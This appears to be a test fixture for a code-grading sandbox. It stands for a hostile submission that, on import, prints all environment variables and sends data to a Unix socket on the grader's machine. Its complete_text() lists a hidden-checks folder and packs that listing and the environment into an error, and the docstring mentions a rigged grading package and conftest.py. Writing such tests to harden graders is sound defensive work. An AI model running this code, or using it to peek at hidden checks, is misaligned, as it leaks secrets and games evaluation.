"""Class 4, leaks: a correct submission whose complete_text() puts the whole environment and
the hidden checks' folder listing into the visible output of a check (as its error), that
prints every environment variable at import, and that tries a Unix socket of the grader's
machine by path. Its folder also holds a rigged `dlgrade` package and conftest.py.

Stopped: the run's environment is an allow-list; the hidden checks are not mounted in the
visible run; the socket's folder is not in the sandbox; only exercise files are taken. Loses
the checks that call complete_text().
"""
BASE = "solution"
EXPECT = "without complete_text"
SOCKET = "__SOCKET__"


def _leak():
    import os
    import socket

    print({key: value for key, value in os.environ.items()})
    try:
        with socket.socket(socket.AF_UNIX) as s:
            s.connect(SOCKET)
            s.sendall(b"leaked")
    except OSError:
        pass


_leak()


def complete_text(*args, **kwargs):
    import os

    hidden = os.listdir("/grading/hidden_checks") if os.path.isdir("/grading/hidden_checks") else []
    raise RuntimeError(f"hidden={hidden} env={dict(os.environ)}")
